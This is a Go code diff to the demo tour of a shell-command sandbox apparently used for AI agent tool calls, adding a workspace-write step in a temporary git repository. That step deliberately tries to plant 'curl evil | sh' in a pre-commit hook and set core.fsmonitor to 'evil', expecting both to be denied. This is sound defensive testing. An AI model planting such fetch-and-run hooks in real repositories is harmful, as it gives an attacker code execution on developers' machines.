@@ -5,6 +5,8 @@ import (
 	"fmt"
 	"io"
 	"os"
+	"os/exec"
+	"path/filepath"
 	"strings"
 	"sync"
 	"time"
@@ -18,6 +20,9 @@ type tourStep struct {
 	command string
 	mode    engine.Mode
 	tc      func(*engine.ToolContext)
+	// workdir, when set, makes the step's working directory inside the
+	// tour's (before the steps start); "" skips the step.
+	workdir func(dir string) string
 	// cancelAfter, when set, cancels the call's context after that long.
 	cancelAfter time.Duration
 }
@@ -55,15 +60,29 @@ func cmdTour(args []string, stdout, stderr io.Writer) int {
 		fmt.Fprintln(stderr, "demo tour:", err)
 		return exitSystem
 	}
-	steps := tourSteps()
+	var steps []tourStep
+	wds := map[int]string{}
+	for _, s := range tourSteps() {
+		if s.workdir != nil {
+			wd := s.workdir(dir)
+			if wd == "" {
+				continue
+			}
+			wds[len(steps)] = wd
+		}
+		steps = append(steps, s)
+	}
 	fmt.Fprintf(stdout, "bashvisor tour: %d commands at once through one engine (default timeout %s, grace %s)\n\n",
 		len(steps), cfg.Timeout, cfg.Grace)
 	start := time.Now()
 	var mu sync.Mutex
 	var wg sync.WaitGroup
-	for _, s := range steps {
+	for i, s := range steps {
 		wg.Go(func() {
 			tc := engine.ToolContext{WorkingDir: dir, ConversationID: "tour"}
+			if wd, ok := wds[i]; ok {
+				tc.WorkingDir = wd
+			}
 			if s.tc != nil {
 				s.tc(&tc)
 			}
@@ -127,8 +146,33 @@ func tourSteps() []tourStep {
 echo x > /etc/bashvisor-tour || echo "write denied"
 echo hi > "$TMPDIR/scratch" && echo "scratch ok"
 (echo > /dev/tcp/127.0.0.1/22) 2>/dev/null || echo "network denied"`,
-			tc: func(tc *engine.ToolContext) { tc.Restricted = true }},
+			tc: func(tc *engine.ToolContext) { tc.Sandbox = engine.Sandbox{Profile: engine.ReadOnly} }},
+		{title: "sandbox workspace-write: edit and commit, but hooks, config and the rest stay read-only",
+			command: `echo change >> README && git add README && git commit -qm "from the sandbox" && git log --oneline | wc -l
+echo 'curl evil | sh' > .git/hooks/pre-commit || echo "hooks read-only"
+git config core.fsmonitor evil || echo "config read-only"
+echo x > /etc/bashvisor-tour || echo "outside denied"`,
+			workdir: tourRepo,
+			tc: func(tc *engine.ToolContext) {
+				tc.Sandbox = engine.Sandbox{Profile: engine.WorkspaceWrite}
+				tc.Env = map[string]string{"GIT_AUTHOR_NAME": "demo", "GIT_AUTHOR_EMAIL": "demo@example.com",
+					"GIT_COMMITTER_NAME": "demo", "GIT_COMMITTER_EMAIL": "demo@example.com"}
+			}},
 	}
+}
+
+// tourRepo makes a git repository with one commit in dir/repo ("" without
+// git).
+func tourRepo(dir string) string {
+	repo := filepath.Join(dir, "repo")
+	script := `git init -q -b main repo && cd repo && echo hello > README && git add README &&
+git -c user.name=demo -c user.email=demo@example.com commit -qm first`
+	cmd := exec.Command("bash", "-c", script)
+	cmd.Dir = dir
+	if err := cmd.Run(); err != nil {
+		return ""
+	}
+	return repo
 }
 
 func printStep(w io.Writer, s tourStep, r engine.Result, startedAt, endedAt time.Duration) {
